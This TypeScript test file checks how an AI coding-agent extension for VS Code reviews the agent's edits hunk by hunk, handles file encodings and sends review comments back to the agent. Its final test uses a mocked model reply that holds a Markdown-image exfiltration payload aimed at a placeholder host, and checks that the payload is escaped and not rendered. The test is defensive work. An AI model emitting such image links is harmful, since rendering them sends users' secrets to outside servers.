// Issue 44, reviewing the agent's edits hunk by hunk, in the real extension host: with
// turnstone.edits.review = afterTurn a turn writes its edits at once (Ask mode asks for none of them), the
// Turnstone source control lists each changed file, Undo of one hunk leaves the other hunks and a line the
// user typed meanwhile as they are (bytes checked), and Keep all empties the list; UTF-16 and BOM files are
// read in their own encoding and written back in it.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { TurnstoneApi } from '../../src/extension';
import { hunksOf, type Hunk, type LineChange } from '../../src/agent/review-hunks';
import { encodeText } from '../../src/tools/files/text';
import { type MockAnthropicServer, textReply, toolUseReply } from '../fixtures/mock-anthropic';
import { useMockApi } from './mock-api';
import { until } from '../support/process-tree';

const root = () => vscode.workspace.workspaceFolders![0]!.uri.fsPath;
const config = () => vscode.workspace.getConfiguration('turnstone');

/** A hunk as VS Code's quick diff hands it to the peek's actions (1-based; an end of 0: no lines on that side). */
const lineChange = (h: Hunk): LineChange => ({
  originalStartLineNumber: h.baseCount === 0 ? h.baseStart : h.baseStart + 1,
  originalEndLineNumber: h.baseCount === 0 ? 0 : h.baseStart + h.baseCount,
  modifiedStartLineNumber: h.currentCount === 0 ? h.currentStart : h.currentStart + 1,
  modifiedEndLineNumber: h.currentCount === 0 ? 0 : h.currentStart + h.currentCount,
});

describe('review hunk by hunk (issue 44)', function () {
  this.timeout(60_000);
  let server: MockAnthropicServer;
  let turnstone: TurnstoneApi;

  // The review lists every open session's changes (issue 43): the rig closes other files' sessions first.
  const rig = useMockApi({ permissionMode: 'ask', 'edits.review': 'afterTurn' }, ['diagnostics.afterEdit']);
  before(() => ({ server, turnstone } = rig));

  it('issue 44 review: an afterTurn turn edits three files without asking; Undo of one hunk keeps the others and the user\'s line; Keep all empties the list', async () => {
    const files = { a: path.join(root(), 'review-a.txt'), b: path.join(root(), 'review-b.txt'), c: path.join(root(), 'review-c.txt') };
    const baseA = 'alpha\nbeta\ngamma\ndelta\nepsilon\n';
    fs.writeFileSync(files.a, baseA);
    fs.writeFileSync(files.b, 'one\r\ntwo\r\n');
    fs.rmSync(files.c, { force: true });
    server.enqueue(
      toolUseReply([
        { id: 'tu_a1', name: 'edit_file', input: { path: 'review-a.txt', old_string: 'beta', new_string: 'BETA' } },
        { id: 'tu_a2', name: 'edit_file', input: { path: 'review-a.txt', old_string: 'epsilon', new_string: 'EPSILON' } },
        { id: 'tu_b', name: 'edit_file', input: { path: 'review-b.txt', old_string: 'two', new_string: 'TWO' } },
        { id: 'tu_c', name: 'write_file', input: { path: 'review-c.txt', content: 'new file\n' } },
      ]),
      textReply('Edited three files.'),
    );
    const summary = await turnstone.sendPrompt('edit them');
    assert.equal(summary.outcome, 'completed', summary.error?.message);
    assert.deepEqual(turnstone.pendingPermissions(), [], 'nothing asked');
    assert.deepEqual(summary.toolResults.map((r) => `${r.name} ${r.isError ? r.content : 'ok'}`), ['edit_file ok', 'edit_file ok', 'edit_file ok', 'write_file ok']);
    const listed = await until('the review to list three files', async () => {
      const found = await turnstone.reviewFiles();
      return found.length === 3 ? found : undefined;
    });
    assert.deepEqual(
      listed.map((f) => [path.basename(f.path), f.hunks, f.base === null]).sort(),
      [['review-a.txt', 2, false], ['review-b.txt', 1, false], ['review-c.txt', 1, true]],
    );

    // The session's row counts its changes to review; Review Changes opens the diff of the one named.
    const shownRow = () => turnstone.sessions().find((row) => row.shown)!;
    await until('the row to count four changes to review', () => shownRow().toReview === 4);
    assert.match(shownRow().description, /4 changes to review/);
    await vscode.commands.executeCommand('turnstone.review.show', files.b);
    const diffOfB = () => vscode.window.tabGroups.activeTabGroup.activeTab?.input;
    const reviewPointOfB = await until('the diff of review-b.txt to be the active tab', () => {
      const input = diffOfB();
      return input instanceof vscode.TabInputTextDiff && input.modified.fsPath === files.b ? input.original : undefined;
    });

    // The user types a line into a.txt meanwhile (saved), then undoes the agent's first hunk there.
    const docA = await vscode.workspace.openTextDocument(files.a);
    const typed = new vscode.WorkspaceEdit();
    typed.insert(docA.uri, new vscode.Position(3, 0), 'mine\n');
    await vscode.workspace.applyEdit(typed);
    await docA.save();
    const current = fs.readFileSync(files.a, 'utf8');
    assert.equal(current, 'alpha\nBETA\ngamma\nmine\ndelta\nEPSILON\n');
    const changes = hunksOf(baseA, current).map(lineChange);
    assert.equal(changes.length, 3, 'two hunks of the agent and the user\'s line');
    await vscode.commands.executeCommand('turnstone.review.undo', docA.uri, changes, 0);
    assert.equal(fs.readFileSync(files.a, 'utf8'), 'alpha\nbeta\ngamma\nmine\ndelta\nEPSILON\n');
    assert.equal(fs.readFileSync(files.b, 'utf8'), 'one\r\nTWO\r\n', 'the other files untouched');
    assert.equal((await turnstone.reviewFiles()).find((f) => f.path === files.a)?.hunks, 2);

    // From the keyboard (Ctrl+Alt+Backspace / Enter: no arguments), the hunk at the cursor: off any hunk, nothing
    // happens; on EPSILON, that hunk alone goes back.
    const editorA = await vscode.window.showTextDocument(docA);
    editorA.selection = new vscode.Selection(0, 0, 0, 0);
    await vscode.commands.executeCommand('turnstone.review.undo');
    assert.equal(fs.readFileSync(files.a, 'utf8'), 'alpha\nbeta\ngamma\nmine\ndelta\nEPSILON\n', 'off a hunk: untouched');
    editorA.selection = new vscode.Selection(5, 3, 5, 3);
    await vscode.commands.executeCommand('turnstone.review.undo');
    assert.equal(fs.readFileSync(files.a, 'utf8'), 'alpha\nbeta\ngamma\nmine\ndelta\nepsilon\n', 'the hunk at the cursor undone, the user\'s line kept');
    assert.equal((await turnstone.reviewFiles()).find((f) => f.path === files.a)?.hunks, 1);

    // Keep one hunk of b: it leaves the list (its review point moved); Keep all empties what is left.
    const bNow = fs.readFileSync(files.b, 'utf8');
    await vscode.commands.executeCommand('turnstone.review.keep', vscode.Uri.file(files.b), hunksOf('one\r\ntwo\r\n', bNow).map(lineChange), 0);
    assert.deepEqual((await turnstone.reviewFiles()).map((f) => path.basename(f.path)).sort(), ['review-a.txt', 'review-c.txt']);
    // Its diff, still open, shows nothing left: the left side is what was kept, not the old review point (nor empty).
    await until('the left side of b\'s diff to be b as kept', async () => (await vscode.workspace.openTextDocument(reviewPointOfB)).getText() === bNow);

    // The keyboard's Keep from the left side of a's diff (the review point's lines): the cursor on the line before
    // the line the user typed, which that side does not have, keeps it.
    const reviewPointOfA = reviewPointOfB.with({ path: vscode.Uri.file(files.a).path, query: encodeURIComponent(files.a) });
    const leftOfA = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(reviewPointOfA));
    leftOfA.selection = new vscode.Selection(2, 0, 2, 0);
    await vscode.commands.executeCommand('turnstone.review.keep');
    assert.deepEqual((await turnstone.reviewFiles()).map((f) => path.basename(f.path)), ['review-c.txt'], 'a kept from its left side');
    assert.equal(fs.readFileSync(files.a, 'utf8'), 'alpha\nbeta\ngamma\nmine\ndelta\nepsilon\n', 'Keep leaves the file as it is');
    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
    await vscode.commands.executeCommand('turnstone.review.keepAll');
    assert.deepEqual(await turnstone.reviewFiles(), []);
    await until('the row to have nothing left to review', () => shownRow().toReview === 0);
    assert.doesNotMatch(shownRow().description, /to review/);
    assert.equal(fs.readFileSync(files.c, 'utf8'), 'new file\n', 'Keep never changes a file');
  });

  it('issue 44 review: each session\'s changes are a group of their own, named after it; a group\'s Keep all keeps only its files; a file another session changed later is that session\'s alone', async () => {
    const mine = path.join(root(), 'review-group-a.txt');
    const theirs = path.join(root(), 'review-group-b.txt');
    fs.writeFileSync(mine, 'a\n');
    fs.writeFileSync(theirs, 'b\n');
    server.enqueue(toolUseReply([{ id: 'tu_ga', name: 'edit_file', input: { path: 'review-group-a.txt', old_string: 'a', new_string: 'A' } }]), textReply('A done.'));
    assert.equal((await turnstone.sendPrompt('shout a')).outcome, 'completed');
    await vscode.commands.executeCommand('turnstone.newSession');
    server.enqueue(toolUseReply([{ id: 'tu_gb', name: 'edit_file', input: { path: 'review-group-b.txt', old_string: 'b', new_string: 'B' } }]), textReply('B done.'));
    assert.equal((await turnstone.sendPrompt('shout b')).outcome, 'completed');
    const groups = await until('two groups, one per session', () => {
      const now = turnstone.reviewGroups();
      return now.length === 2 && now.every((g) => g.files.length === 1) ? now : undefined;
    });
    assert.deepEqual(groups.map((g) => g.files[0]).sort(), [mine, theirs].sort());
    for (const g of groups) assert.match(g.label, / · changed by the agent$/);
    // The group's inline Keep all hands over the group: only its session's file is kept.
    const groupOfMine = groups.find((g) => g.files[0] === mine)!;
    await vscode.commands.executeCommand('turnstone.review.keepAll', { label: groupOfMine.label, resourceStates: [{ resourceUri: vscode.Uri.file(mine) }] });
    assert.deepEqual((await turnstone.reviewFiles()).map((f) => f.path), [theirs]);
    await until('one group left', () => (turnstone.reviewGroups().length === 1 ? true : undefined));

    // The second session now changes the first one's file: the file is the second's (its group, its row's count), once.
    server.enqueue(toolUseReply([{ id: 'tu_gc', name: 'edit_file', input: { path: 'review-group-a.txt', old_string: 'A', new_string: 'AA' } }]), textReply('AA done.'));
    assert.equal((await turnstone.sendPrompt('shout a again')).outcome, 'completed');
    const [group] = await until('both files in the second session\'s group', () => {
      const now = turnstone.reviewGroups();
      return now.length === 1 && now[0]!.files.length === 2 ? now : undefined;
    });
    assert.deepEqual(group!.files.sort(), [mine, theirs].sort());
    await until('the second session\'s row to count both changes, the first\'s none', () => {
      const rows = turnstone.sessions();
      return rows.find((r) => r.shown)?.toReview === 2 && rows.filter((r) => !r.shown).every((r) => r.toReview === 0) ? true : undefined;
    });
    await vscode.commands.executeCommand('turnstone.review.keepAll');
    fs.rmSync(mine, { force: true });
    fs.rmSync(theirs, { force: true });
  });

  it('issue 44 review: UTF-16 and UTF-8 BOM files are read in their encoding (an edit undone by the agent is not listed) and Undo writes the file back in its own encoding', async () => {
    const files = { le: path.join(root(), 'review-utf16le.txt'), be: path.join(root(), 'review-utf16be.txt'), bom: path.join(root(), 'review-bom.txt') };
    const text = 'alpha\nbeta\ngamma\n';
    const original = { le: encodeText(text, 'utf16le'), be: encodeText(text, 'utf16be'), bom: encodeText(text, 'utf8bom') };
    for (const k of ['le', 'be', 'bom'] as const) fs.writeFileSync(files[k], original[k]);
    // The diagnostics wait opens an edited file's document; off, nothing opens them and the review reads the disk.
    await config().update('diagnostics.afterEdit', false, vscode.ConfigurationTarget.Global);
    server.enqueue(
      toolUseReply([
        { id: 'tu_le', name: 'edit_file', input: { path: 'review-utf16le.txt', old_string: 'beta', new_string: 'BETA' } },
        // Changed and changed back: the file's text is its review point's again, which only a read in its own encoding sees.
        { id: 'tu_be1', name: 'edit_file', input: { path: 'review-utf16be.txt', old_string: 'beta', new_string: 'BETA' } },
        { id: 'tu_be2', name: 'edit_file', input: { path: 'review-utf16be.txt', old_string: 'BETA', new_string: 'beta' } },
        { id: 'tu_bom1', name: 'edit_file', input: { path: 'review-bom.txt', old_string: 'gamma', new_string: 'GAMMA' } },
        { id: 'tu_bom2', name: 'edit_file', input: { path: 'review-bom.txt', old_string: 'GAMMA', new_string: 'gamma' } },
      ]),
      textReply('Edited.'),
    );
    const summary = await turnstone.sendPrompt('edit the encoded files');
    await config().update('diagnostics.afterEdit', undefined, vscode.ConfigurationTarget.Global);
    assert.equal(summary.outcome, 'completed', summary.error?.message);
    assert.deepEqual(summary.toolResults.map((r) => (r.isError ? r.content : 'ok')), ['ok', 'ok', 'ok', 'ok', 'ok']);
    assert.deepEqual(Buffer.from(fs.readFileSync(files.be)), Buffer.from(original.be), 'changed back byte for byte');
    const mine = async () => (await turnstone.reviewFiles()).filter((f) => Object.values(files).includes(f.path));
    const listed = await until('the review to list the UTF-16LE file', async () => {
      const found = await mine();
      return found.some((f) => f.path === files.le) ? found : undefined;
    });
    assert.deepEqual(listed.map((f) => [path.basename(f.path), f.hunks, f.base]), [['review-utf16le.txt', 1, text]], 'the two files changed back are not listed');
    const opened = vscode.workspace.textDocuments.filter((d) => Object.values(files).includes(d.uri.fsPath)).map((d) => d.uri.fsPath);
    assert.deepEqual(opened, [], 'read from disk, not from an open document');

    const current = new TextDecoder('utf-16le').decode(fs.readFileSync(files.le).subarray(2));
    assert.equal(current, 'alpha\nBETA\ngamma\n');
    await vscode.commands.executeCommand('turnstone.review.undo', vscode.Uri.file(files.le), hunksOf(text, current).map(lineChange), 0);
    assert.deepEqual(Buffer.from(fs.readFileSync(files.le)), Buffer.from(original.le), 'UTF-16LE with its BOM, byte for byte');
    assert.deepEqual(await mine(), []);
    for (const f of Object.values(files)) fs.rmSync(f, { force: true });
  });

  it('issue 44 review: a comment on a changed line, Send to agent, becomes a prompt to the session that changed the file, with the lines and where they are', async () => {
    const file = path.join(root(), 'review-comment.txt');
    fs.writeFileSync(file, 'first\nsecond\nthird\n');
    server.enqueue(toolUseReply([{ id: 'tu_rc', name: 'edit_file', input: { path: 'review-comment.txt', old_string: 'second', new_string: 'SECOND' } }]), textReply('Edited.'));
    assert.equal((await turnstone.sendPrompt('shout the second line')).outcome, 'completed');
    await until('the review to list the file', async () => ((await turnstone.reviewFiles()).some((f) => f.path === file) ? true : undefined));

    // A thread on line 2, as the editor's comment widget hands it over with the user's words.
    const other = vscode.comments.createCommentController('review-test', 'review test');
    try {
      const thread = other.createCommentThread(vscode.Uri.file(file), new vscode.Range(1, 0, 1, 6), []);
      // An injected image would be fetched as the thread renders (no content policy there): it shows as text.
      server.enqueue(textReply('Lowered it again. ![x](https://example.invalid/?d=secret)'));
      const before = server.requests.length;
      await vscode.commands.executeCommand('turnstone.review.sendToAgent', { thread, text: 'keep this one lower case' });
      await server.waitForRequests(before + 1);
      const prompt = JSON.stringify(server.bodies[before]!.messages);
      assert.match(prompt, /Review comment on review-comment\.txt, line 2/);
      assert.match(prompt, /SECOND/);
      assert.match(prompt, /keep this one lower case/);
      assert.equal(thread.comments.length, 1, 'the comment stays in its thread');
      assert.equal(thread.label, 'Sent to the agent');
      await until('the turn to end', () => (turnstone.sessions().find((s) => s.shown)?.state === 'done' ? true : undefined));
      // The answer joins the thread, as plain (untrusted) Markdown under Turnstone's name.
      await until('the answer in the thread', () => (thread.comments.length === 2 ? true : undefined));
      const answer = thread.comments[1]!;
      assert.equal(answer.author.name, 'Turnstone');
      assert.ok(answer.body instanceof vscode.MarkdownString);
      assert.equal(answer.body.value, 'Lowered it again. !\\[x](https://example.invalid/?d=secret)');
      assert.equal(answer.body.isTrusted, false);
    } finally {
      other.dispose();
      fs.rmSync(file, { force: true });
    }
  });
});
